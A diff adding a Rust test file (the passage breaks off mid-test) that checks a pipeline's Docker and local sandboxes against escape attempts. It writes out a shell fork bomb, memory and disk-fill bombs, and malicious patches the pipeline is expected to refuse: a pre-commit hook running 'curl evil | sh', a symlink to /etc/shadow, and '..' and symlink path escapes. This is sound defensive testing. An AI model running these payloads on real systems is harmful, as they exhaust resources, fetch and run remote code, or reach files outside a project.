@@ -1,0 +1,1025 @@
+//! The sandboxes against a real Docker engine and real interpreters: the escape suite (fork
+//! bomb, memory bomb, disk fill, endless output, network, host secrets, patches through
+//! symlinks and `..`), per-test outcomes of real Python, Node.js and Go projects, session
+//! reuse and isolation, and container cleanup on every path. Docker tests need the engine
+//! from `scripts/dev-services.sh up`; the Python base image is built once, on first use, by
+//! `scripts/build-base-images.sh python` (skipped when it exists).
+
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result, bail, ensure};
+use pipeline::patch::{self, Edit, PatchLimits, Refusal};
+use pipeline::sandbox::{
+    self, DockerSandbox, Limits, LocalSandbox, RunResult, RunSpec, Sandbox, detect_project,
+    parse_outcomes,
+};
+use proto::messages::{TestOutcome, TestStatus};
+
+const PYTHON_IMAGE: &str = "coval/python:bookworm";
+
+fn repo_root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .parent()
+        .map(Path::to_path_buf)
+        .unwrap_or_default()
+}
+
+fn fixture(name: &str) -> PathBuf {
+    repo_root().join("tests/fixtures/projects").join(name)
+}
+
+/// Builds the Python base image once per test process (the script itself skips an existing
+/// image and serialises concurrent builds with a lock).
+fn ensure_python_image() -> Result<()> {
+    static BUILT: OnceLock<Result<(), String>> = OnceLock::new();
+    BUILT
+        .get_or_init(|| {
+            let t0 = Instant::now();
+            let out = Command::new(repo_root().join("scripts/build-base-images.sh"))
+                .arg("python")
+                .output()
+                .map_err(|e| format!("cannot run scripts/build-base-images.sh: {e}"))?;
+            eprintln!(
+                "build-base-images.sh python: {:.1} s\n{}",
+                t0.elapsed().as_secs_f64(),
+                String::from_utf8_lossy(&out.stderr)
+            );
+            if out.status.success() {
+                Ok(())
+            } else {
+                Err(format!(
+                    "scripts/build-base-images.sh python failed: {}",
+                    String::from_utf8_lossy(&out.stderr)
+                ))
+            }
+        })
+        .clone()
+        .map_err(anyhow::Error::msg)
+}
+
+/// The host's `/usr/bin/python3` must have pytest for the local-sandbox tests (a per-run user
+/// cannot use an interpreter under root's home); install Debian's package once if missing.
+fn ensure_host_pytest() -> Result<()> {
+    static DONE: OnceLock<Result<(), String>> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let ok = |_: ()| {
+            Command::new("/usr/bin/python3")
+                .args(["-c", "import pytest"])
+                .output()
+                .map(|o| o.status.success())
+                .unwrap_or(false)
+        };
+        if ok(()) {
+            return Ok(());
+        }
+        let install = || {
+            Command::new("apt-get")
+                .args(["install", "-y", "-qq", "--no-install-recommends", "python3-pytest"])
+                .env("DEBIAN_FRONTEND", "noninteractive")
+                .output()
+        };
+        let out = install().map_err(|e| format!("apt-get: {e}"))?;
+        if !out.status.success() {
+            let _ = Command::new("apt-get").args(["update", "-qq"]).output();
+            let _ = install();
+        }
+        if ok(()) {
+            Ok(())
+        } else {
+            Err("the host's /usr/bin/python3 has no pytest and `apt-get install python3-pytest` failed".into())
+        }
+    })
+    .clone()
+    .map_err(anyhow::Error::msg)
+}
+
+/// `None` (the test is skipped, loudly) only when the run asked for no Docker.
+async fn docker() -> Result<Option<DockerSandbox>> {
+    if std::env::var("COVAL_SKIP_DOCKER").as_deref() == Ok("1") {
+        eprintln!("COVAL_SKIP_DOCKER=1: skipping a Docker sandbox test");
+        return Ok(None);
+    }
+    ensure_python_image()?;
+    let sb = DockerSandbox::connect("")
+        .await
+        .context("the Docker engine must answer: run `scripts/dev-services.sh up`")?;
+    Ok(Some(sb))
+}
+
+fn limits() -> Limits {
+    Limits {
+        memory_bytes: 192 << 20,
+        pids: 64,
+        cpus: 1.0,
+        output_bytes: 64 << 10,
+        tmpfs_bytes: 32 << 20,
+        nofile: 256,
+    }
+}
+
+fn spec(dir: &Path, argv: &[&str], timeout_secs: u64) -> RunSpec {
+    let mut s = RunSpec::new(dir, argv.iter().map(|a| (*a).to_owned()).collect());
+    s.limits = limits();
+    s.timeout = Duration::from_secs(timeout_secs);
+    s.image = PYTHON_IMAGE.into();
+    s
+}
+
+fn empty_project() -> Result<tempfile::TempDir> {
+    let d = tempfile::tempdir()?;
+    std::fs::write(d.path().join("README"), "an empty project\n")?;
+    Ok(d)
+}
+
+/// No container of this sandbox is left, running or not.
+async fn assert_no_containers(sb: &DockerSandbox) -> Result<()> {
+    let left = sb.containers().await?;
+    ensure!(left.is_empty(), "containers left behind: {left:?}");
+    Ok(())
+}
+
+fn report(backend: &str, what: &str, r: &RunResult) {
+    eprintln!(
+        "[escape] {backend:6} {what:22} verdict: {} ({:.2} s)",
+        r.verdict(),
+        r.duration.as_secs_f64()
+    );
+}
+
+fn tree_snapshot(dir: &Path) -> Result<Vec<(PathBuf, Vec<u8>)>> {
+    let mut out = vec![];
+    fn walk(root: &Path, d: &Path, out: &mut Vec<(PathBuf, Vec<u8>)>) -> Result<()> {
+        for e in std::fs::read_dir(d)? {
+            let e = e?;
+            let p = e.path();
+            let m = std::fs::symlink_metadata(&p)?;
+            let rel = p.strip_prefix(root)?.to_path_buf();
+            if m.is_dir() {
+                out.push((rel, vec![]));
+                walk(root, &p, out)?;
+            } else if m.file_type().is_symlink() {
+                out.push((
+                    rel,
+                    std::fs::read_link(&p)?
+                        .into_os_string()
+                        .into_encoded_bytes(),
+                ));
+            } else {
+                out.push((rel, std::fs::read(&p)?));
+            }
+        }
+        Ok(())
+    }
+    walk(dir, dir, &mut out)?;
+    out.sort();
+    Ok(out)
+}
+
+// ---------------------------------------------------------------- escape suite
+
+const FORK_COUNTER: &str = r#"
+import os, sys, time
+n = 0
+while True:
+    try:
+        pid = os.fork()
+    except OSError as e:
+        print(f"fork refused after {n} children: {e}", flush=True)
+        break
+    if pid == 0:
+        time.sleep(300)
+        os._exit(0)
+    n += 1
+"#;
+
+fn forks_refused_after(r: &RunResult) -> Result<u32> {
+    let line = r
+        .stdout
+        .lines()
+        .find(|l| l.starts_with("fork refused after "))
+        .with_context(|| format!("no fork refusal in the output: {r:?}"))?;
+    Ok(line
+        .trim_start_matches("fork refused after ")
+        .split(' ')
+        .next()
+        .unwrap_or("")
+        .parse()?)
+}
+
+async fn fork_bomb(sb: &impl Sandbox, backend: &str) -> Result<()> {
+    let dir = empty_project()?;
+    // Counted: fork until the kernel refuses, then exit and leave 300 s sleepers behind.
+    let r = sb
+        .run(&spec(dir.path(), &["python3", "-c", FORK_COUNTER], 60))
+        .await?;
+    report(backend, "fork bomb (counted)", &r);
+    let n = forks_refused_after(&r)?;
+    ensure!(
+        n < limits().pids,
+        "{n} forks succeeded with a pids limit of {}",
+        limits().pids
+    );
+    ensure!(r.exit_code == Some(0), "{}", r.verdict());
+    // The sleepers were killed with the run, not waited for.
+    ensure!(
+        r.duration < Duration::from_secs(30),
+        "took {:?}",
+        r.duration
+    );
+    // Classic: forks forever until the timeout.
+    let r = sb
+        .run(&spec(
+            dir.path(),
+            &[
+                "sh",
+                "-c",
+                "exec 2>/dev/null; b() { b | b & }; b; sleep 100",
+            ],
+            4,
+        ))
+        .await?;
+    report(backend, "fork bomb (shell)", &r);
+    ensure!(r.timed_out, "{}", r.verdict());
+    ensure!(r.verdict() == "killed after 4 s timeout", "{}", r.verdict());
+    ensure!(
+        r.duration < Duration::from_secs(25),
+        "took {:?}",
+        r.duration
+    );
+    Ok(())
+}
+
+const MEMORY_BOMB: &str = r#"
+a = []
+while True:
+    a.append(b"x" * (16 << 20))
+"#;
+
+async fn memory_bomb(sb: &impl Sandbox, backend: &str) -> Result<()> {
+    let dir = empty_project()?;
+    let r = sb
+        .run(&spec(dir.path(), &["python3", "-c", MEMORY_BOMB], 60))
+        .await?;
+    report(backend, "memory bomb", &r);
+    ensure!(r.oom_killed, "not reported as out of memory: {r:?}");
+    ensure!(r.verdict() == "killed: out of memory", "{}", r.verdict());
+    ensure!(!r.success());
+    Ok(())
+}
+
+const DISK_FILL: &str = r#"
+import errno, os
+written = 0
+chunk = b"x" * (1 << 20)
+try:
+    with open("fill.bin", "wb") as f:
+        while written < (1 << 30):
+            f.write(chunk)
+            f.flush()
+            written += len(chunk)
+    print("WROTE 1 GiB: not capped")
+except OSError as e:
+    print(f"write failed after {written >> 20} MiB: {errno.errorcode.get(e.errno)}")
+try:
+    open("/usr/evil", "w").write("x")
+    print("ROOT WRITABLE")
+except OSError as e:
+    print(f"root fs: {errno.errorcode.get(e.errno)}")
+"#;
+
+async fn disk_fill(sb: &impl Sandbox, backend: &str) -> Result<()> {
+    let dir = empty_project()?;
+    let before = tree_snapshot(dir.path())?;
+    let r = sb
+        .run(&spec(dir.path(), &["python3", "-c", DISK_FILL], 60))
+        .await?;
+    report(backend, "disk fill", &r);
+    let line = r
+        .stdout
+        .lines()
+        .find(|l| l.starts_with("write failed after") || l.starts_with("WROTE"))
+        .with_context(|| format!("unexpected output: {r:?}"))?;
+    eprintln!(
+        "[escape] {backend:6} disk fill: {}",
+        r.stdout.trim().replace('\n', "; ")
+    );
+    ensure!(line.starts_with("write failed after"), "{line}");
+    let mib: u64 = line
+        .split_whitespace()
+        .nth(3)
+        .unwrap_or("")
+        .parse()
+        .context("MiB count")?;
+    ensure!(
+        mib <= limits().tmpfs_bytes >> 20,
+        "wrote {mib} MiB past a {} MiB cap",
+        limits().tmpfs_bytes >> 20
+    );
+    // Docker: the tmpfs is full; local: the file-size limit.
+    ensure!(
+        line.ends_with("ENOSPC") || line.ends_with("EFBIG"),
+        "{line}"
+    );
+    ensure!(!r.stdout.contains("ROOT WRITABLE"), "{}", r.stdout);
+    ensure!(
+        tree_snapshot(dir.path())? == before,
+        "the host copy changed"
+    );
+    ensure!(
+        !Path::new("/usr/evil").exists(),
+        "/usr/evil appeared on the host"
+    );
+    Ok(())
+}
+
+async fn endless_output(sb: &impl Sandbox, backend: &str) -> Result<()> {
+    let dir = empty_project()?;
+    let t0 = Instant::now();
+    let r = sb
+        .run(&spec(dir.path(), &["yes", "all work and no play"], 60))
+        .await?;
+    report(backend, "endless output", &r);
+    ensure!(r.output_truncated, "{r:?}");
+    ensure!(
+        r.verdict() == "output capped at 64 KiB; process killed",
+        "{}",
+        r.verdict()
+    );
+    ensure!(r.stdout.len() + r.stderr.len() <= 64 << 10);
+    ensure!(
+        !r.timed_out && t0.elapsed() < Duration::from_secs(30),
+        "took {:?}",
+        t0.elapsed()
+    );
+    Ok(())
+}
+
+const CONNECT: &str = r#"
+import socket, sys
+try:
+    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3)
+    s.sendall(b"leak")
+    print("CONNECTED")
+except OSError as e:
+    print(f"blocked: {e}")
+"#;
+
+/// Returns whether the sandbox blocked the connection.
+async fn network(sb: &impl Sandbox, backend: &str) -> Result<bool> {
+    let dir = empty_project()?;
+    let listener = TcpListener::bind("127.0.0.1:0")?;
+    listener.set_nonblocking(true)?;
+    let port = listener.local_addr()?.port().to_string();
+    let r = sb
+        .run(&spec(dir.path(), &["python3", "-c", CONNECT, &port], 30))
+        .await?;
+    report(backend, "network to 127.0.0.1", &r);
+    let accepted = match listener.accept() {
+        Ok(_) => true,
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
+        Err(e) => return Err(e.into()),
+    };
+    eprintln!(
+        "[escape] {backend:6} network: {} (listener accepted: {accepted})",
+        r.stdout.trim()
+    );
+    let said_blocked = r.stdout.contains("blocked:");
+    ensure!(
+        accepted != said_blocked,
+        "listener and sandbox disagree: accepted={accepted}, output={}",
+        r.stdout
+    );
+    Ok(!accepted)
+}
+
+async fn patch_escapes(backend: &str) -> Result<()> {
+    let outside = tempfile::tempdir()?;
+    let secret = outside.path().join("secret.txt");
+    std::fs::write(&secret, "do not touch\n")?;
+    let project = tempfile::tempdir()?;
+    std::fs::write(project.path().join("app.py"), "x = 1\n")?;
+    std::os::unix::fs::symlink(&secret, project.path().join("link.txt"))?;
+    std::os::unix::fs::symlink(outside.path(), project.path().join("linkdir"))?;
+    std::fs::hard_link(&secret, project.path().join("hard.txt"))?;
+    let before = tree_snapshot(project.path())?;
+    let lim = PatchLimits::default();
+    let cases: Vec<(&str, String, Refusal)> = vec![
+        (
+            "write through a symlinked file",
+            "--- a/link.txt\n+++ b/link.txt\n@@ -1 +1 @@\n-do not touch\n+owned\n".into(),
+            Refusal::ThroughSymlink("link.txt".into()),
+        ),
+        (
+            "create under a symlinked dir",
+            "--- /dev/null\n+++ b/linkdir/evil.txt\n@@ -0,0 +1 @@\n+evil\n".into(),
+            Refusal::ThroughSymlink("linkdir".into()),
+        ),
+        (
+            "search/replace via symlink",
+            "link.txt\n<<<<<<< SEARCH\ndo not touch\n=======\nowned\n>>>>>>> REPLACE\n".into(),
+            Refusal::ThroughSymlink("link.txt".into()),
+        ),
+        (
+            "`..` in a diff",
+            format!(
+                "--- a/app.py\n+++ b/../{}/secret.txt\n@@ -1 +1 @@\n-x = 1\n+owned\n",
+                outside.path().file_name().and_then(|n| n.to_str()).unwrap_or("x")
+            ),
+            Refusal::ParentDir,
+        ),
+        (
+            "`..` in a new file",
+            "--- /dev/null\n+++ b/src/../../evil.txt\n@@ -0,0 +1 @@\n+evil\n".into(),
+            Refusal::ParentDir,
+        ),
+        (
+            "absolute path",
+            format!("--- /dev/null\n+++ {}\n@@ -0,0 +1 @@\n+evil\n", secret.display()),
+            Refusal::AbsolutePath,
+        ),
+        (
+            "into .git/",
+            "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n".into(),
+            Refusal::GitDir,
+        ),
+        (
+            "create a symlink",
+            "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc/shadow\n\\ No newline at end of file\n".into(),
+            Refusal::CreatesSymlink,
+        ),
+    ];
+    for (what, text, want) in cases {
+        let result = patch::parse(&text, &lim).and_then(|e| patch::apply(project.path(), &e, &lim));
+        let err = match result {
+            Ok(a) => bail!("{what}: applied: {a:?}"),
+            Err(e) => e,
+        };
+        eprintln!("[escape] {backend:6} patch: {what:30} verdict: refused: {err}");
+        ensure!(
+            err.refusal() == Some(&want),
+            "{what}: {err} (wanted {want:?})"
+        );
+        ensure!(
+            std::fs::read_to_string(&secret)? == "do not touch\n",
+            "{what}: the outside file changed"
+        );
+        ensure!(
+            !outside.path().join("evil.txt").exists(),
+            "{what}: wrote outside"
+        );
+        ensure!(
+            tree_snapshot(project.path())? == before,
+            "{what}: the tree changed"
+        );
+    }
+    // A hard link is a regular file inside the tree: editing it is allowed, but the write
+    // replaces the link instead of writing through it.
+    let edits = vec![Edit::WholeFile {
+        path: "hard.txt".into(),
+        content: "edited copy\n".into(),
+    }];
+    patch::apply(project.path(), &edits, &lim)?;
+    ensure!(
+        std::fs::read_to_string(&secret)? == "do not touch\n",
+        "wrote through a hard link"
+    );
+    ensure!(std::fs::read_to_string(project.path().join("hard.txt"))? == "edited copy\n");
+    eprintln!(
+        "[escape] {backend:6} patch: {:30} verdict: applied to the copy only, outside file unchanged",
+        "edit a hard link"
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn docker_escape_suite() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    fork_bomb(&sb, "docker").await?;
+    memory_bomb(&sb, "docker").await?;
+    disk_fill(&sb, "docker").await?;
+    endless_output(&sb, "docker").await?;
+    ensure!(
+        network(&sb, "docker").await?,
+        "docker let a connection through"
+    );
+    patch_escapes("docker").await?;
+    assert_no_containers(&sb).await
+}
+
+#[tokio::test]
+async fn local_escape_suite() -> Result<()> {
+    let sb = LocalSandbox::new();
+    eprintln!("{}", sb.notice());
+    ensure!(sb.notice().contains("isolates less"), "{}", sb.notice());
+    ensure_host_pytest()?; // the python3 a per-run user can execute
+    // As root, each run has a user of its own (root itself ignores RLIMIT_NPROC); otherwise the
+    // limit is the user's current process count plus the run's allowance.
+    fork_bomb(&sb, "local").await?;
+    memory_bomb(&sb, "local").await?;
+    disk_fill(&sb, "local").await?;
+    endless_output(&sb, "local").await?;
+    let blocked = network(&sb, "local").await?;
+    if sb.network_isolated() {
+        ensure!(
+            blocked,
+            "a new network namespace was reported but the connection went through"
+        );
+    } else {
+        ensure!(
+            !blocked && sb.notice().contains("network NOT blocked"),
+            "{}",
+            sb.notice()
+        );
+        eprintln!("[escape] local  network: NOT blocked here (no network namespace allowed)");
+    }
+    patch_escapes("local").await
+}
+
+/// Runs `secret_env_probe` in a child test process whose environment holds a secret.
+#[test]
+fn host_secrets_are_not_visible_inside() -> Result<()> {
+    let secret = format!("s3cret-{}", std::process::id());
+    let out = Command::new(std::env::current_exe()?)
+        .args([
+            "--exact",
+            "sandbox::secret_env_probe",
+            "--ignored",
+            "--nocapture",
+            "--test-threads=1",
+        ])
+        .env("COVAL_TEST_SECRET", &secret)
+        .output()?;
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    eprintln!("{stderr}");
+    ensure!(
+        out.status.success(),
+        "the probe failed:\n{stdout}\n{stderr}"
+    );
+    ensure!(
+        stdout.contains("1 passed"),
+        "the probe did not run:\n{stdout}"
+    );
+    Ok(())
+}
+
+#[tokio::test]
+#[ignore = "run by host_secrets_are_not_visible_inside with a secret in its environment"]
+async fn secret_env_probe() -> Result<()> {
+    let Ok(secret) = std::env::var("COVAL_TEST_SECRET") else {
+        return Ok(());
+    };
+    let dir = empty_project()?;
+    let mut s = spec(
+        dir.path(),
+        &[
+            "sh",
+            "-c",
+            "env; test -w /var/run/docker.sock && echo DOCKER SOCKET",
+        ],
+        30,
+    );
+    s.env = vec![
+        ("PATH".into(), "/usr/bin:/bin".into()),
+        ("ONLY_THIS".into(), "1".into()),
+    ];
+    let check = |backend: &str, r: &RunResult, isolated_fs: bool| -> Result<()> {
+        eprintln!(
+            "[escape] {backend:6} {:22} verdict: {}; env inside: {:?}",
+            "host secret env",
+            r.verdict(),
+            r.stdout.lines().collect::<Vec<_>>()
+        );
+        ensure!(
+            !r.stdout.contains(&secret) && !r.stdout.contains("COVAL_TEST_SECRET"),
+            "the secret leaked: {}",
+            r.stdout
+        );
+        // The local sandbox shares the file system: only a user of its own keeps it out.
+        ensure!(
+            !isolated_fs || !r.stdout.contains("DOCKER SOCKET"),
+            "the Docker socket is usable"
+        );
+        let mut vars: Vec<&str> = r.stdout.lines().filter(|l| l.contains('=')).collect();
+        vars.sort();
+        // `sh` adds PWD itself; everything else must be exactly the spec's env.
+        vars.retain(|v| !v.starts_with("PWD="));
+        ensure!(
+            vars == ["ONLY_THIS=1", "PATH=/usr/bin:/bin"],
+            "unexpected environment: {vars:?}"
+        );
+        Ok(())
+    };
+    if let Some(sb) = docker().await? {
+        let r = sb.run(&s).await?;
+        check("docker", &r, true)?;
+        assert_no_containers(&sb).await?;
+    }
+    let local = LocalSandbox::new();
+    let r = local.run(&s).await?;
+    check("local", &r, local.separate_user())
+}
+
+// ---------------------------------------------------------------- per-test outcomes
+
+fn calc_outcomes(kind_names: &[(&str, TestStatus)]) -> Vec<TestOutcome> {
+    kind_names
+        .iter()
+        .map(|(n, s)| TestOutcome {
+            name: (*n).to_owned(),
+            status: *s,
+        })
+        .collect()
+}
+
+async fn run_project(sb: &impl Sandbox, dir: &Path) -> Result<(RunResult, Vec<TestOutcome>)> {
+    let kind = detect_project(dir).context("no project detected")?;
+    let mut s = spec(dir, &[], 120);
+    s.argv = kind.test_cmd.clone();
+    s.collect = kind.reports.clone();
+    s.limits.memory_bytes = 1 << 30;
+    s.limits.pids = 256;
+    s.limits.tmpfs_bytes = 256 << 20;
+    s.limits.output_bytes = 1 << 20;
+    let r = sb.run(&s).await?;
+    let outcomes = parse_outcomes(&kind, &r);
+    eprintln!("{}: {} → {outcomes:?}", dir.display(), r.verdict());
+    Ok((r, outcomes))
+}
+
+#[tokio::test]
+async fn python_outcomes_in_docker() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let (r, t) = run_project(&sb, &fixture("python-calc")).await?;
+    ensure!(r.exit_code == Some(1), "{r:?}");
+    ensure!(
+        t == calc_outcomes(&[
+            ("tests/test_calc.py::test_add", TestStatus::Passed),
+            ("tests/test_calc.py::test_div", TestStatus::Failed),
+        ]),
+        "{t:?}\n{r:?}"
+    );
+    assert_no_containers(&sb).await
+}
+
+#[tokio::test]
+async fn python_outcomes_locally() -> Result<()> {
+    ensure_host_pytest()?;
+    let (r, t) = run_project(&LocalSandbox::new(), &fixture("python-calc")).await?;
+    ensure!(
+        t == calc_outcomes(&[
+            ("tests/test_calc.py::test_add", TestStatus::Passed),
+            ("tests/test_calc.py::test_div", TestStatus::Failed),
+        ]),
+        "{t:?}\n{r:?}"
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn node_outcomes_locally() -> Result<()> {
+    let (r, t) = run_project(&LocalSandbox::new(), &fixture("node-calc")).await?;
+    ensure!(r.exit_code == Some(1), "{r:?}");
+    ensure!(
+        t == calc_outcomes(&[
+            ("adds", TestStatus::Passed),
+            ("divides", TestStatus::Failed)
+        ]),
+        "{t:?}\n{r:?}"
+    );
+    Ok(())
+}
+
+#[tokio::test]
+async fn go_outcomes_locally() -> Result<()> {
+    let (r, t) = run_project(&LocalSandbox::new(), &fixture("go-calc")).await?;
+    ensure!(r.exit_code == Some(1), "{r:?}");
+    ensure!(
+        t == calc_outcomes(&[
+            ("example.com/calc::TestAdd", TestStatus::Passed),
+            ("example.com/calc::TestDiv", TestStatus::Failed),
+        ]),
+        "{t:?}\n{r:?}"
+    );
+    Ok(())
+}
+
+/// Node.js and Go in their own images. Ignored by default: the suite builds only the Python
+/// image (about a minute); this one builds `coval/node` and `coval/go` too (two more).
+#[tokio::test]
+#[ignore = "builds the node and go base images: cargo test -p coval-tests --test it -- --ignored node_and_go"]
+async fn node_and_go_outcomes_in_docker() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let out = Command::new(repo_root().join("scripts/build-base-images.sh"))
+        .args(["node", "go"])
+        .output()?;
+    ensure!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    for (fixture_name, image, want) in [
+        (
+            "node-calc",
+            "coval/node:bookworm",
+            calc_outcomes(&[
+                ("adds", TestStatus::Passed),
+                ("divides", TestStatus::Failed),
+            ]),
+        ),
+        (
+            "go-calc",
+            "coval/go:bookworm",
+            calc_outcomes(&[
+                ("example.com/calc::TestAdd", TestStatus::Passed),
+                ("example.com/calc::TestDiv", TestStatus::Failed),
+            ]),
+        ),
+    ] {
+        let dir = fixture(fixture_name);
+        let kind = detect_project(&dir).context("no project detected")?;
+        let mut s = spec(&dir, &[], 300);
+        s.argv = kind.test_cmd.clone();
+        s.image = image.into();
+        s.limits.memory_bytes = 1 << 30;
+        s.limits.pids = 512;
+        s.limits.tmpfs_bytes = 512 << 20;
+        s.limits.output_bytes = 1 << 20;
+        let r = sb.run(&s).await?;
+        let t = parse_outcomes(&kind, &r);
+        eprintln!(
+            "{fixture_name} in {image}: {} ({:.1} s) → {t:?}",
+            r.verdict(),
+            r.duration.as_secs_f64()
+        );
+        ensure!(t == want, "{t:?}\n{r:?}");
+    }
+    assert_no_containers(&sb).await
+}
+
+/// The failing fixture, fixed by a real patch applied to a copy, passes in the sandbox.
+#[tokio::test]
+async fn patched_copy_passes_in_docker() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let work = tempfile::tempdir()?;
+    let copy = work.path().join("calc");
+    let fix = "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -7,2 +7,2 @@ def add(a, b):\n def div(a, b):\n-    return a * b\n+    return a / b\n";
+    let lim = PatchLimits::default();
+    let applied = patch::apply_to_copy(
+        &fixture("python-calc"),
+        &copy,
+        &patch::parse(fix, &lim)?,
+        &lim,
+    )?;
+    ensure!(applied.changed_lines == 2, "{applied:?}");
+    let (r, t) = run_project(&sb, &copy).await?;
+    ensure!(r.success(), "{r:?}");
+    ensure!(
+        t.iter().all(|o| o.status == TestStatus::Passed) && t.len() == 2,
+        "{t:?}"
+    );
+    assert_no_containers(&sb).await
+}
+
+// ---------------------------------------------------------------- sessions
+
+const SESSION_PROBE: &str = r#"
+import os, subprocess, sys
+me = open("cand.txt").read().strip()
+problems = []
+here = os.path.basename(os.getcwd())
+others = [d for d in os.listdir("/work") if d != here]
+if others:
+    problems.append(f"other work dirs visible: {others}")
+for p in ["/tmp/leak.txt", "/dev/shm/leak.txt", "leak.txt", "/tmp/late.txt"]:
+    if os.path.exists(p):
+        problems.append(f"{p} exists: {open(p).read().strip()}")
+for p in ["/tmp/leak.txt", "/dev/shm/leak.txt", "leak.txt"]:
+    with open(p, "w") as f:
+        f.write(me)
+# A process that outlives the candidate and would write into a later one.
+subprocess.Popen(["sh", "-c", "sleep 0.4; echo " + me + " > /tmp/late.txt"], start_new_session=True)
+print("\n".join(problems) or f"candidate {me}: clean")
+sys.exit(1 if problems else 0)
+"#;
+
+#[tokio::test]
+async fn docker_session_isolates_ten_candidates() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let template = spec(Path::new("/nonexistent"), &["true"], 30);
+    let mut session = sb.open_session(&template).await?;
+    ensure!(
+        sb.containers().await?.len() == 1,
+        "a session is one container"
+    );
+    let work = tempfile::tempdir()?;
+    let mut times = vec![];
+    for i in 1..=10 {
+        let dir = work.path().join(format!("cand{i}"));
+        std::fs::create_dir(&dir)?;
+        std::fs::write(dir.join("cand.txt"), format!("{i}\n"))?;
+        let r = session
+            .run(
+                &dir,
+                &["python3".into(), "-c".into(), SESSION_PROBE.into()],
+                Duration::from_secs(30),
+            )
+            .await?;
+        eprintln!("candidate {i}: {} {}", r.verdict(), r.stdout.trim());
+        ensure!(
+            r.success(),
+            "candidate {i} saw another candidate's traces: {}{}",
+            r.stdout,
+            r.stderr
+        );
+        times.push(r.duration.as_secs_f64());
+        // Between candidates, a late writer would have had time to strike.
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    ensure!(
+        sb.containers().await?.len() == 1,
+        "still one container for ten candidates"
+    );
+    eprintln!(
+        "session: {:.3} s per candidate (min {:.3}, max {:.3})",
+        times.iter().sum::<f64>() / times.len() as f64,
+        times.iter().cloned().fold(f64::MAX, f64::min),
+        times.iter().cloned().fold(0.0, f64::max)
+    );
+    session.close().await?;
+    assert_no_containers(&sb).await
+}
+
+#[tokio::test]
+async fn docker_session_survives_timeouts_floods_and_oom() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let dir = empty_project()?;
+    let mut session = sb.open_session(&spec(dir.path(), &["true"], 30)).await?;
+    let run = |argv: &[&str]| argv.iter().map(|a| (*a).to_owned()).collect::<Vec<_>>();
+    let r = session
+        .run(
+            dir.path(),
+            &run(&["sh", "-c", "sleep 100 & sleep 100"]),
+            Duration::from_secs(2),
+        )
+        .await?;
+    eprintln!("session timeout: {}", r.verdict());
+    ensure!(
+        r.timed_out && r.verdict() == "killed after 2 s timeout",
+        "{r:?}"
+    );
+    ensure!(r.duration < Duration::from_secs(15), "{:?}", r.duration);
+    let r = session
+        .run(dir.path(), &run(&["yes"]), Duration::from_secs(30))
+        .await?;
+    eprintln!("session flood: {}", r.verdict());
+    ensure!(r.output_truncated && !r.timed_out, "{r:?}");
+    let r = session
+        .run(
+            dir.path(),
+            &run(&["python3", "-c", MEMORY_BOMB]),
+            Duration::from_secs(30),
+        )
+        .await?;
+    eprintln!("session memory bomb: {}", r.verdict());
+    ensure!(r.oom_killed, "{r:?}");
+    let r = session
+        .run(
+            dir.path(),
+            &run(&["sh", "-c", "echo still here; ls /work | wc -l"]),
+            Duration::from_secs(30),
+        )
+        .await?;
+    ensure!(r.success() && r.stdout == "still here\n1\n", "{r:?}");
+    // The next run after an OOM kill is not reported as one.
+    ensure!(!r.oom_killed, "{r:?}");
+    session.close().await?;
+    assert_no_containers(&sb).await
+}
+
+#[tokio::test]
+async fn local_session_isolates_candidates() -> Result<()> {
+    let sb = LocalSandbox::new();
+    let dir = empty_project()?;
+    let mut session = Sandbox::open_session(&sb, &spec(dir.path(), &["true"], 30)).await?;
+    let script = "test -e leak.txt && echo LEAK; test -e \"$TMPDIR/leak.txt\" && echo TMPLEAK; touch leak.txt \"$TMPDIR/leak.txt\"; echo ok";
+    for _ in 0..3 {
+        let r = session
+            .run(
+                dir.path(),
+                &["sh".into(), "-c".into(), script.into()],
+                Duration::from_secs(10),
+            )
+            .await?;
+        ensure!(r.stdout == "ok\n", "{r:?}");
+    }
+    ensure!(
+        !dir.path().join("leak.txt").exists(),
+        "the source dir was written"
+    );
+    session.close().await?;
+    Ok(())
+}
+
+// ---------------------------------------------------------------- cleanup and detection
+
+/// A run whose future is dropped mid-way (a cancelled repair) still removes its container.
+#[tokio::test]
+async fn cancelled_run_removes_its_container() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let dir = empty_project()?;
+    let s = spec(dir.path(), &["sleep", "60"], 120);
+    let cancelled = tokio::time::timeout(Duration::from_secs(3), sb.run(&s)).await;
+    ensure!(cancelled.is_err(), "the run should still be going");
+    assert_no_containers(&sb).await
+}
+
+/// A session dropped without `close`, or dropped by a panicking task, removes its container.
+#[tokio::test]
+async fn dropped_and_panicked_sessions_remove_their_containers() -> Result<()> {
+    let Some(sb) = docker().await? else {
+        return Ok(());
+    };
+    let dir = empty_project()?;
+    let template = spec(dir.path(), &["true"], 10);
+    let session = sb.open_session(&template).await?;
+    ensure!(sb.containers().await?.len() == 1);
+    drop(session);
+    assert_no_containers(&sb).await?;
+    let sb2 = sb.clone();
+    let task = tokio::spawn(async move {
